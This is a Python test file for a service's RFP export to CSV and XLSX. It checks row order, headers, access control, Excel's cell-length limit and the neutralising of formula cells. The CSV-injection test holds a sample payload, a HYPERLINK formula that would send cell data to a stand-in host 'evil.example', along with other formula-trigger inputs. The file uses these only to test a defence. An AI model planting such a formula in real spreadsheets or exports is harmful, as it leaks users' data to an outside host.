"""Exporting an RFP's items as CSV or XLSX."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook


async def answered_rfp(client, conn, actor) -> str:
    response = await client.post(
        "/api/v1/rfps",
        json={"rfp": {"title": "Acme: Security Review 2026", "items": [
            {"question": "Do you encrypt data?\nAt rest and in transit.", "section": "Data"},
            {"question": "=HYPERLINK(\"http://x\")", "section": None},
        ]}},
        headers=actor.headers,
    )
    rfp_id = (await response.json())["id"]
    await conn.execute(
        "UPDATE rfp_items SET answer = 'Yes, \"always\".', confidence = 0.875, state = 'auto_answered'"
        " WHERE rfp_id = $1 AND position = 1",
        rfp_id,
    )
    return rfp_id


async def test_export_csv__items_in_order_as_attachment(client, conn, admin):
    rfp_id = await answered_rfp(client, conn, admin)
    response = await client.get(
        f"/api/v1/rfps/{rfp_id}/export?format=csv", headers={**admin.headers, "X-Request-Id": "csv-1"}
    )
    assert response.status == 200
    assert response.content_type == "text/csv"
    assert response.headers["X-Request-Id"] == "csv-1"  # streamed: sent before the handler returns
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="acme-security-review-2026.csv"'
    )
    rows = list(csv.reader(io.StringIO(await response.text())))
    assert rows == [
        ["question", "answer", "state", "confidence", "section"],
        ["Do you encrypt data?\nAt rest and in transit.", 'Yes, "always".', "auto_answered", "0.875", "Data"],
        ['\'=HYPERLINK("http://x")', "", "pending", "", ""],
    ]


async def test_export_csv__formula_cells_are_neutralised(client, conn, admin):
    """Issue 17, finding 7 (OWASP CSV injection): a cell starting with = + - @ tab or CR is
    prefixed with a quote so a spreadsheet shows it as text instead of running it."""
    questions = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
                 "\tcmd", "\rcmd", "a = b", "'quoted"]
    response = await client.post(
        "/api/v1/rfps", json={"rfp": {"title": "t", "items": [{"question": q} for q in questions]}},
        headers=admin.headers,
    )
    rfp_id = (await response.json())["id"]
    await conn.execute("UPDATE rfp_items SET answer = '=1+2', section = '@x' WHERE rfp_id = $1", rfp_id)
    response = await client.get(f"/api/v1/rfps/{rfp_id}/export", headers=admin.headers)
    rows = list(csv.reader(io.StringIO(await response.text())))[1:]
    assert [row[0] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'+1+1", "'-2+3", "'@SUM(A1)",
        "'\tcmd", "'\rcmd", "a = b", "'quoted",
    ]
    assert {(row[1], row[4]) for row in rows} == {("'=1+2", "'@x")}


async def test_export_xlsx__readable_and_formula_text_stays_text(client, conn, admin):
    rfp_id = await answered_rfp(client, conn, admin)
    response = await client.get(f"/api/v1/rfps/{rfp_id}/export?format=xlsx", headers=admin.headers)
    assert response.status == 200
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    workbook = load_workbook(io.BytesIO(await response.read()))
    sheet = workbook.active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["question", "answer", "state", "confidence", "section"]
    assert rows[1] == ["Do you encrypt data?\nAt rest and in transit.", 'Yes, "always".',
                       "auto_answered", 0.875, "Data"]
    assert rows[2][0] == '=HYPERLINK("http://x")'
    assert sheet.cell(row=3, column=1).data_type == "s"


async def test_export__bad_format_is_400_parameter_invalid(client, conn, admin):
    rfp_id = await answered_rfp(client, conn, admin)
    response = await client.get(f"/api/v1/rfps/{rfp_id}/export?format=pdf", headers=admin.headers)
    assert response.status == 400
    assert (await response.json())["error"]["code"] == "parameter_invalid"


async def test_export__other_account_is_404(client, conn, make_account):
    mine, theirs = await make_account(), await make_account()
    rfp_id = await answered_rfp(client, conn, mine)
    response = await client.get(f"/api/v1/rfps/{rfp_id}/export?format=csv", headers=theirs.headers)
    assert response.status == 404
    assert (await response.json())["error"]["code"] == "not_found"


async def test_export_xlsx__a_cell_past_excels_limit_is_cut_saying_so_and_csv_has_it_all(
    client, conn, admin
):
    """Excel holds at most 32,767 characters in a cell and drops the text of a longer one when it
    "repairs" the file; an item holds up to 200,000. The XLSX cell is cut there, saying so (it was
    written whole); the CSV export keeps it all. Excel counts UTF-16 units: an emoji counts two."""
    from service.domain.writeback import EXCEL_CELL_CHARS, EXCEL_CUT_NOTE

    rfp_id = await answered_rfp(client, conn, admin)
    answer = "Yes. " + "We encrypt. " * 5_000  # 60,005 characters
    await conn.execute("UPDATE rfp_items SET answer = $2, question = $3 WHERE rfp_id = $1 AND position = 1",
                       rfp_id, answer, "😀" * 20_000)
    response = await client.get(f"/api/v1/rfps/{rfp_id}/export?format=xlsx", headers=admin.headers)
    row = [cell.value for cell in load_workbook(io.BytesIO(await response.read())).active[2]]
    assert len(row[1]) == EXCEL_CELL_CHARS and row[1].endswith(EXCEL_CUT_NOTE)
    assert answer.startswith(row[1].removesuffix(EXCEL_CUT_NOTE))
    assert len(row[0].encode("utf-16-le")) // 2 == EXCEL_CELL_CHARS  # 16,350 emoji and the note
    assert row[0].endswith(EXCEL_CUT_NOTE) and set(row[0].removesuffix(EXCEL_CUT_NOTE)) == {"😀"}
    csv_rows = list(csv.reader(io.StringIO(await (await client.get(
        f"/api/v1/rfps/{rfp_id}/export?format=csv", headers=admin.headers)).text())))
    assert csv_rows[1][1] == answer
